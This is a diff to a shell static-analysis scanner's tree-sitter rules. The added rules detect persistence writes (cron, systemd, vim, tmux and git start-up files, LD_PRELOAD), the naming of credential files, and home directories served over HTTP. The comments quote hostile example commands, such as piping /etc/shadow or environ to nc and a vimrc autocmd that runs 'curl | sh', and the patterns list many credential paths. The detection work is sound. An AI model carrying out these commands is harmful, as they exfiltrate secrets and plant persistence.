@@ -292,14 +292,14 @@
 ; cp x.desktop ~/.config/autostart/: a unit systemd starts, or a program the
 ; desktop starts at every login, written where they read them
 ((file_redirect destination: (_) @dst) @finding
- (#value-match? @dst "^/etc/(cron\\.(d|hourly|daily|weekly|monthly)(/|$)|crontab$|anacrontab$)|^/var/spool/cron(/|$)|(^|/)\\.config/(systemd/user/|autostart/)|^/etc/(systemd/(system|user)|xdg/autostart)/|^/(usr/)?lib/systemd/(system|user)/")
+ (#value-match? @dst "^/etc/(cron\\.(d|hourly|daily|weekly|monthly)(/|$)|crontab$|anacrontab$)|^/var/spool/cron(/|$)|(^|/)\\.config/(systemd/user/|autostart/)|^/etc/(systemd/(system|user)|xdg/autostart)/|^/(usr/)?lib/systemd/(system|user)/|(^|/)\\.ipython/profile_[^/]+/startup/|(^|/)\\.local/bin/(sudo|su|ssh|scp|ls|cat|ps|gpg)$")
  (#set! id "sh-dynamic-code")
  (#set! severity "high")
  (#set! message "writes a scheduled job or a service where cron, systemd or the desktop reads it: what it runs later was not checked"))
 
 ((command) @n @finding
  (#resolves-to? @n "tee|cp|mv|install|ln|rsync|dd")
- (#match? @n "\\s/etc/(cron\\.(d|hourly|daily|weekly|monthly)(/|\\s|$)|crontab(\\s|$)|anacrontab(\\s|$))|\\s/var/spool/cron(/|\\s|$)|[\\s/=]\\.config/(systemd/user|autostart)(/|\\s|$)|[\\s=]/etc/(systemd/(system|user)|xdg/autostart)(/|\\s|$)")
+ (#match? @n "\\s/etc/(cron\\.(d|hourly|daily|weekly|monthly)(/|\\s|$)|crontab(\\s|$)|anacrontab(\\s|$))|\\s/var/spool/cron(/|\\s|$)|[\\s/=]\\.config/(systemd/user|autostart)(/|\\s|$)|[\\s=]/etc/(systemd/(system|user)|xdg/autostart)(/|\\s|$)|[\\s/=]\\.ipython/profile_[^/\\s]+/startup/|[\\s/=]\\.local/bin/(sudo|su|ssh|scp|ls|cat|ps|gpg)[\"']?(\\s|$)")
  (#set! id "sh-dynamic-code")
  (#set! severity "high")
  (#set! message "writes a scheduled job or a service where cron, systemd or the desktop reads it: what it runs later was not checked"))
@@ -312,30 +312,55 @@
  (#set! severity "high")
  (#set! message "installs a scheduled job (crontab): what it runs later was not checked"))
 
+; echo 'autocmd VimEnter * !curl u | sh' >> ~/.vimrc, echo 'run-shell ...'
+; | tee -a ~/.tmux.conf, printf '[core]\n\tpager = ...' >> ~/.gitconfig,
+; echo LD_PRELOAD=... > ~/.config/environment.d/x.conf: a line that runs a
+; command (vim's !, system(), tmux's run-shell, git's pager or fsmonitor,
+; a preloaded library) written into another program's start-up file; the
+; same file's ordinary settings (set number) are not
+((redirected_statement redirect: (file_redirect destination: (_) @dst)) @finding
+ (#value-match? @dst "(^|/)\\.(vimrc|gvimrc|exrc|tmux\\.conf|gitconfig|pam_environment|config/(git/config|tmux/tmux\\.conf|nvim/init\\.(vim|lua)))$|(^|/)\\.(vim|config/nvim)/plugin/|(^|/)\\.config/environment\\.d/")
+ (#match? @finding "(^|[\\s:|\"'=])!\\s*[\\w./~$]|\\b(system|systemlist|jobstart|run-shell|if-shell|hooksPath|LD_PRELOAD|LD_AUDIT)\\b|(pager|fsmonitor|sshCommand|editor)\\s*=[^\\n]*[|;&$`(]")
+ (#set! id "sh-dynamic-code")
+ (#set! severity "high")
+ (#set! message "writes a command into another program's start-up file (vim, tmux, git, the session's environment): it runs each time that program starts"))
+
+((pipeline . (command) @n . (command argument: (_) @dst) @w .) @finding
+ (#resolves-to? @w "tee|dd|sponge")
+ (#value-match? @dst "(^(of=)?|/)\\.(vimrc|gvimrc|exrc|tmux\\.conf|gitconfig|pam_environment|config/(git/config|tmux/tmux\\.conf|nvim/init\\.(vim|lua)))$|(^|/)\\.(vim|config/nvim)/plugin/|(^|/)\\.config/environment\\.d/")
+ (#match? @n "(^|[\\s:|\"'=])!\\s*[\\w./~$]|\\b(system|systemlist|jobstart|run-shell|if-shell|hooksPath|LD_PRELOAD|LD_AUDIT)\\b|(pager|fsmonitor|sshCommand|editor)\\s*=[^\\n]*[|;&$`(]")
+ (#set! id "sh-dynamic-code")
+ (#set! severity "high")
+ (#set! message "writes a command into another program's start-up file (vim, tmux, git, the session's environment): it runs each time that program starts"))
+
 ; ~/.ssh, $HOME/.aws, /etc/shadow, id_rsa, .netrc, /proc/self/environ... in a word or a quoted string (a comment is neither);
 ; a pattern that names them ([[ $f == */.@(ssh)/id_!(*.pub) ]], case items) as well,
 ; and a regular expression (find -regex '.*/\.(s)sh/id_.*', [[ $f =~ \.s{2}h/ ]])
 ([(word) (raw_string) (string) (ansi_c_string) (concatenation) (extglob_pattern) (regex)] @finding
- (#value-match? @finding "(^|[/\\s=:])\\.ssh(?![\\w.-])(?!/+(known_hosts2?|config)(?![\\w.-]))|(^|[/\\s=:])\\.aws(?![\\w.-])|(^|[/\\s=:])etc/(g?shadow|sudoers|master\\.passwd)(?![\\w.-])|(^|[/\\s=:@])\\.(netrc|pgpass|git-credentials|npmrc|pypirc)(?![\\w.-])|\\.docker/config\\.json|\\.kube/config|(^|[/\\s=:])\\.gnupg(?![\\w.-])|/proc/[^/\\s]+/(task/[^/\\s]+/)?environ|^/environ$|\\.config/gh/hosts\\.yml|(^|[/\\s=:])\\.(bash|zsh)_history(?![\\w.-])|(^|[/\\s=:])id_(rsa|dsa|ecdsa|ed25519)(\\.pub)?(?![\\w.-])|\\.config/gcloud|(^|[/\\s=:])\\.azure(?![\\w.-])|/var/run/secrets|/run/secrets|\\.mozilla/firefox|\\.config/(google-chrome|chromium|BraveSoftware|microsoft-edge|vivaldi|opera)/.*(Cookies|Web Data)(?![\\w.-])|(^|[/\\s=:])(cookies\\.sqlite|logins\\.json|key[34]\\.db|Login Data)(?![\\w.-])|\\.local/share/keyrings|Library/Keychains|(^|[/\\s=:])\\.password-store(?![\\w.-])")
+ (#value-match? @finding "(^|[/\\s=:])\\.ssh(?![\\w.-])(?!/+(known_hosts2?|config)(?![\\w.-]))|(^|[/\\s=:])\\.aws(?![\\w.-])|(^|[/\\s=:])etc/(g?shadow|sudoers|master\\.passwd)(?![\\w.-])|(^|[/\\s=:@])\\.(netrc|pgpass|git-credentials|npmrc|pypirc|config/(containers/auth\\.json|git/credentials|doctl/config\\.yaml|configstore/firebase-tools\\.json|hub|op|rclone)|cache/huggingface/(token|stored_tokens)|kaggle/kaggle\\.json|m2/settings(-security)?\\.xml|gradle/gradle\\.properties|oci/config|fly/config\\.yml|codex/auth\\.json|claude/\\.credentials\\.json|s3cfg|boto)(?![\\w.-])|\\.docker/config\\.json|\\.kube/config|(^|[/\\s=:])\\.gnupg(?![\\w.-])|/proc/[^/\\s]+/(task/[^/\\s]+/)?environ|^/environ$|\\.config/gh/hosts\\.yml|(^|[/\\s=:])\\.(bash|zsh)_history(?![\\w.-])|(^|[/\\s=:])id_(rsa|dsa|ecdsa|ed25519)(\\.pub)?(?![\\w.-])|\\.config/gcloud|(^|[/\\s=:])\\.azure(?![\\w.-])|/var/run/secrets|/run/secrets|\\.mozilla/firefox|\\.config/(google-chrome|chromium|BraveSoftware|microsoft-edge|vivaldi|opera)/.*(Cookies|Web Data)(?![\\w.-])|(^|[/\\s=:])(cookies\\.sqlite|logins\\.json|key[34]\\.db|Login Data)(?![\\w.-])|\\.local/share/keyrings|Library/Keychains|(^|[/\\s=:])\\.password-store(?![\\w.-])")
  (#not-parent-type? @finding "concatenation")
  (#set! id "sh-credentials")
  (#set! severity "high")
  (#set! message "names a file that holds credentials (SSH or cloud keys, passwords, tokens)"))
 
 ; cd /etc && cat shadow, (cd ~/.kube; curl -T config ...), cd /etc; cat
-; shadow | nc h p, cd /proc/self; nc h p < environ: a credential file named
-; relative to the directory the statement before went to (a directory that
-; is itself one, ~/.ssh, already is); only a plain cd and, after it, a
-; command, a pipeline or a redirect, in a block, a list or a subshell (the
-; pattern is anchored on those, not on every node)
-([(list (command argument: (_) @dir) @cd . [(command argument: (_) @target) (pipeline (command argument: (_) @target)) (pipeline (redirected_statement redirect: (file_redirect destination: (_) @target))) (redirected_statement redirect: (file_redirect destination: (_) @target))] @finding)
-  (redirected_statement body: (list (command argument: (_) @dir) @cd . (command)) redirect: (file_redirect destination: (_) @target)) @finding
-  (program (command argument: (_) @dir) @cd . (command argument: (_) @target) @finding)
-  (compound_statement (command argument: (_) @dir) @cd . (command argument: (_) @target) @finding)
-  (subshell (command argument: (_) @dir) @cd . (command argument: (_) @target) @finding)]
+; shadow | nc h p, cd /proc/self; nc h p < environ, cd ~/.kube on a line of
+; its own then gzip -c config | nc h p: a credential file named relative
+; to the directory the cd right before its statement went to (a directory
+; that is itself one, ~/.ssh, already is; the same directory's ordinary
+; files are not)
+([(command argument: (_) @target) (file_redirect destination: (_) @target)] @finding
+ (#value-match? @target "^([\\w-]*[=@])?(\\./)?(g?shadow|sudoers|master\\.passwd|environ|config\\.json|config|hosts\\.yml|credentials\\.db|access_tokens\\.db|application_default_credentials\\.json|legacy_credentials(/.*)?|auth\\.json|config\\.yaml|config\\.yml|credentials(\\.json)?|\\.credentials\\.json|settings(-security)?\\.xml|gradle\\.properties|kaggle\\.json|token|stored_tokens|firebase-tools\\.json)$")
+ (#after-cd-match? @target "^(/+etc|/+proc/[^/]+(/task/[^/]+)?|(~|/home/[^/]+|/root)/+(\\.docker|\\.kube|\\.config/(gh|gcloud|containers|doctl|op|rclone|hub)|\\.kaggle|\\.m2|\\.gradle|\\.cache/huggingface|\\.oci|\\.fly|\\.codex|\\.claude|\\.cargo|\\.gem|\\.terraform\\.d))/*$")
+ (#set! id "sh-credentials")
+ (#set! severity "high")
+ (#set! message "names a file that holds credentials (SSH or cloud keys, passwords, tokens)"))
+
+; (cd /proc/self && nc h p) < environ: a list's redirect
+((redirected_statement body: (list (command argument: (_) @dir) @cd . (command)) redirect: (file_redirect destination: (_) @target)) @finding
  (#resolves-to? @cd "cd|pushd")
- (#value-match? @dir "^(/+etc|/+proc/[^/]+(/task/[^/]+)?|(~|/home/[^/]+|/root)/+(\\.docker|\\.kube|\\.config/(gh|gcloud)))/*$")
- (#value-match? @target "^(\\./)?(g?shadow|sudoers|master\\.passwd|environ|config\\.json|config|hosts\\.yml|credentials\\.db|access_tokens\\.db|application_default_credentials\\.json|legacy_credentials(/.*)?)$")
+ (#value-match? @dir "^(/+etc|/+proc/[^/]+(/task/[^/]+)?|(~|/home/[^/]+|/root)/+(\\.docker|\\.kube|\\.config/(gh|gcloud|containers|doctl|op|rclone|hub)|\\.kaggle|\\.m2|\\.gradle|\\.cache/huggingface|\\.oci|\\.fly|\\.codex|\\.claude|\\.cargo|\\.gem|\\.terraform\\.d))/*$")
+ (#value-match? @target "^([\\w-]*[=@])?(\\./)?(g?shadow|sudoers|master\\.passwd|environ|config\\.json|config|hosts\\.yml|credentials\\.db|access_tokens\\.db|application_default_credentials\\.json|legacy_credentials(/.*)?|auth\\.json|config\\.yaml|config\\.yml|credentials(\\.json)?|\\.credentials\\.json|settings(-security)?\\.xml|gradle\\.properties|kaggle\\.json|token|stored_tokens|firebase-tools\\.json)$")
  (#set! id "sh-credentials")
  (#set! severity "high")
  (#set! message "names a file that holds credentials (SSH or cloud keys, passwords, tokens)"))
@@ -343,8 +368,8 @@
 ; "$dir/..." whose whole does not fold: the constant piece
 ([(concatenation [(word) (raw_string) (string) (ansi_c_string)] @finding)
   (string (string_content) @finding)] @whole
- (#value-match? @finding "(^|[/\\s=:])\\.ssh(?![\\w.-])(?!/+(known_hosts2?|config)(?![\\w.-]))|(^|[/\\s=:])\\.aws(?![\\w.-])|(^|[/\\s=:])etc/(g?shadow|sudoers|master\\.passwd)(?![\\w.-])|(^|[/\\s=:@])\\.(netrc|pgpass|git-credentials|npmrc|pypirc)(?![\\w.-])|\\.docker/config\\.json|\\.kube/config|(^|[/\\s=:])\\.gnupg(?![\\w.-])|/proc/[^/\\s]+/(task/[^/\\s]+/)?environ|^/environ$|\\.config/gh/hosts\\.yml|(^|[/\\s=:])\\.(bash|zsh)_history(?![\\w.-])|(^|[/\\s=:])id_(rsa|dsa|ecdsa|ed25519)(\\.pub)?(?![\\w.-])|\\.config/gcloud|(^|[/\\s=:])\\.azure(?![\\w.-])|/var/run/secrets|/run/secrets|\\.mozilla/firefox|\\.config/(google-chrome|chromium|BraveSoftware|microsoft-edge|vivaldi|opera)/.*(Cookies|Web Data)(?![\\w.-])|(^|[/\\s=:])(cookies\\.sqlite|logins\\.json|key[34]\\.db|Login Data)(?![\\w.-])|\\.local/share/keyrings|Library/Keychains|(^|[/\\s=:])\\.password-store(?![\\w.-])")
- (#not-value-match? @whole "(^|[/\\s=:])\\.ssh(?![\\w.-])(?!/+(known_hosts2?|config)(?![\\w.-]))|(^|[/\\s=:])\\.aws(?![\\w.-])|(^|[/\\s=:])etc/(g?shadow|sudoers|master\\.passwd)(?![\\w.-])|(^|[/\\s=:@])\\.(netrc|pgpass|git-credentials|npmrc|pypirc)(?![\\w.-])|\\.docker/config\\.json|\\.kube/config|(^|[/\\s=:])\\.gnupg(?![\\w.-])|/proc/[^/\\s]+/(task/[^/\\s]+/)?environ|^/environ$|\\.config/gh/hosts\\.yml|(^|[/\\s=:])\\.(bash|zsh)_history(?![\\w.-])|(^|[/\\s=:])id_(rsa|dsa|ecdsa|ed25519)(\\.pub)?(?![\\w.-])|\\.config/gcloud|(^|[/\\s=:])\\.azure(?![\\w.-])|/var/run/secrets|/run/secrets|\\.mozilla/firefox|\\.config/(google-chrome|chromium|BraveSoftware|microsoft-edge|vivaldi|opera)/.*(Cookies|Web Data)(?![\\w.-])|(^|[/\\s=:])(cookies\\.sqlite|logins\\.json|key[34]\\.db|Login Data)(?![\\w.-])|\\.local/share/keyrings|Library/Keychains|(^|[/\\s=:])\\.password-store(?![\\w.-])")
+ (#value-match? @finding "(^|[/\\s=:])\\.ssh(?![\\w.-])(?!/+(known_hosts2?|config)(?![\\w.-]))|(^|[/\\s=:])\\.aws(?![\\w.-])|(^|[/\\s=:])etc/(g?shadow|sudoers|master\\.passwd)(?![\\w.-])|(^|[/\\s=:@])\\.(netrc|pgpass|git-credentials|npmrc|pypirc|config/(containers/auth\\.json|git/credentials|doctl/config\\.yaml|configstore/firebase-tools\\.json|hub|op|rclone)|cache/huggingface/(token|stored_tokens)|kaggle/kaggle\\.json|m2/settings(-security)?\\.xml|gradle/gradle\\.properties|oci/config|fly/config\\.yml|codex/auth\\.json|claude/\\.credentials\\.json|s3cfg|boto)(?![\\w.-])|\\.docker/config\\.json|\\.kube/config|(^|[/\\s=:])\\.gnupg(?![\\w.-])|/proc/[^/\\s]+/(task/[^/\\s]+/)?environ|^/environ$|\\.config/gh/hosts\\.yml|(^|[/\\s=:])\\.(bash|zsh)_history(?![\\w.-])|(^|[/\\s=:])id_(rsa|dsa|ecdsa|ed25519)(\\.pub)?(?![\\w.-])|\\.config/gcloud|(^|[/\\s=:])\\.azure(?![\\w.-])|/var/run/secrets|/run/secrets|\\.mozilla/firefox|\\.config/(google-chrome|chromium|BraveSoftware|microsoft-edge|vivaldi|opera)/.*(Cookies|Web Data)(?![\\w.-])|(^|[/\\s=:])(cookies\\.sqlite|logins\\.json|key[34]\\.db|Login Data)(?![\\w.-])|\\.local/share/keyrings|Library/Keychains|(^|[/\\s=:])\\.password-store(?![\\w.-])")
+ (#not-value-match? @whole "(^|[/\\s=:])\\.ssh(?![\\w.-])(?!/+(known_hosts2?|config)(?![\\w.-]))|(^|[/\\s=:])\\.aws(?![\\w.-])|(^|[/\\s=:])etc/(g?shadow|sudoers|master\\.passwd)(?![\\w.-])|(^|[/\\s=:@])\\.(netrc|pgpass|git-credentials|npmrc|pypirc|config/(containers/auth\\.json|git/credentials|doctl/config\\.yaml|configstore/firebase-tools\\.json|hub|op|rclone)|cache/huggingface/(token|stored_tokens)|kaggle/kaggle\\.json|m2/settings(-security)?\\.xml|gradle/gradle\\.properties|oci/config|fly/config\\.yml|codex/auth\\.json|claude/\\.credentials\\.json|s3cfg|boto)(?![\\w.-])|\\.docker/config\\.json|\\.kube/config|(^|[/\\s=:])\\.gnupg(?![\\w.-])|/proc/[^/\\s]+/(task/[^/\\s]+/)?environ|^/environ$|\\.config/gh/hosts\\.yml|(^|[/\\s=:])\\.(bash|zsh)_history(?![\\w.-])|(^|[/\\s=:])id_(rsa|dsa|ecdsa|ed25519)(\\.pub)?(?![\\w.-])|\\.config/gcloud|(^|[/\\s=:])\\.azure(?![\\w.-])|/var/run/secrets|/run/secrets|\\.mozilla/firefox|\\.config/(google-chrome|chromium|BraveSoftware|microsoft-edge|vivaldi|opera)/.*(Cookies|Web Data)(?![\\w.-])|(^|[/\\s=:])(cookies\\.sqlite|logins\\.json|key[34]\\.db|Login Data)(?![\\w.-])|\\.local/share/keyrings|Library/Keychains|(^|[/\\s=:])\\.password-store(?![\\w.-])")
  (#set! id "sh-credentials")
  (#set! severity "high")
  (#set! message "names a file that holds credentials (SSH or cloud keys, passwords, tokens)"))
@@ -375,6 +400,18 @@
 ((command) @n @finding
  (#resolves-to? @n "python[0-9.]*|pypy[0-9.]*|php[0-9.]*|busybox|httpd|ruby[0-9.]*")
  (#match? @n "(-m\\s*(http\\.server|SimpleHTTPServer)\\s(.*\\s)?(--directory[=\\s]\\s*|-d\\s*)|\\s-S\\s+\\S+\\s(.*\\s)?-t\\s*|httpd\\s(.*\\s)?-h\\s*|-e\\s*['\"]?httpd['\"]?\\s(.*\\s)?)[\"']?(~|\\$\\{?HOME\\}?|/home/[^/\\s\"']+|/root|/)/*\\.?/*[\"']?(\\s|$)")
+ (#set! id "sh-credentials")
+ (#set! severity "high")
+ (#set! message "serves the home directory (or /) over the network, its keys and tokens with it"))
+
+; cd ~; python3 -m http.server 8000 &, cd "$HOME" && busybox httpd,
+; cd / (or a bare cd) then php -S 0.0.0.0:80: a web server started right
+; after a cd to the home directory (or /) serves the directory it runs in
+; (no --directory, -t, -h, or ".") -- the home, its keys and tokens with it
+((command) @n @finding
+ (#resolves-to? @n "python[0-9.]*|pypy[0-9.]*|php[0-9.]*|busybox|httpd|ruby[0-9.]*|npx|http-server|serve")
+ (#match? @n "(^|\\s)-m\\s*(http\\.server|SimpleHTTPServer)(?!.*\\s(--directory|-d)(?![=\\s]*[\"']?\\./?[\"']?(\\s|$)))|\\s-S\\s+\\S+(?!.*\\s-t(?![=\\s]*[\"']?\\./?[\"']?(\\s|$)))|(^|\\s)httpd(?!.*\\s-h(?![=\\s]*[\"']?\\./?[\"']?(\\s|$)))|-e\\s*[\"']?httpd[\"']?(\\s+(\\.|\\./|-p\\s*\\d+|--port[=\\s]*\\d+|(-b|--bind-address)[=\\s]*\\S+))*\\s*$|(^|\\s)(http-server|serve)(\\s+(\\.|\\./|\\d+|(-p|-l|-a|--port|--listen)[=\\s]*\\S+|-[a-zA-Z]+))*\\s*$")
+ (#after-cd-match? @n "^(~|/home/[^/]+|/root|/)/*$")
  (#set! id "sh-credentials")
  (#set! severity "high")
  (#set! message "serves the home directory (or /) over the network, its keys and tokens with it"))
